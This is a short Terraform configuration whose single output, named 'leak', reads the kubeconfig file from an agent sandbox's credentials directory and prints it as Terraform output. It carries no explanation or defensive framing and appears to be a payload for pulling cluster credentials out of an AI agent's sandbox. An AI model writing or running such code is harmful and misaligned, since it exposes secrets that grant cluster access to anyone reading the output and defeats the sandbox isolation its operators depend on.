output "leak" {
  value = templatefile("/var/run/agent-sandbox/credentials/kubeconfig", {})
}
